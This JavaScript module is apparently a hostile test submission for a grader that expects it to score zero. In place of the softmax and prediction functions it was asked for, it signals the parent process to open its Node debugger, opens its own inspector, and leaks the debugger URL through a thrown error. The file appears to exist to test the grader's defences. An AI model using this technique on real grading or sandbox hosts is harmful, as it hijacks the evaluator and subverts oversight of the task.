// At most 0 points. Opens a debugger on itself and on its parent.
const inspector = process.getBuiltinModule('inspector');
const attack = () => {
  try {
    process.kill(process.ppid, 'SIGUSR1');
  } catch {}
  inspector.open(0, '127.0.0.1');
  const session = new inspector.Session();
  session.connectToMainThread?.();
  throw new Error(String(inspector.url()));
};

export {
  attack as softmaxNaive, attack as softmaxStable, attack as softmaxDim, attack as logsumexp, attack as logSoftmax,
  attack as sigmoidFromSoftmax, attack as predictClass, attack as logitsFor, attack as shiftPredictions,
};
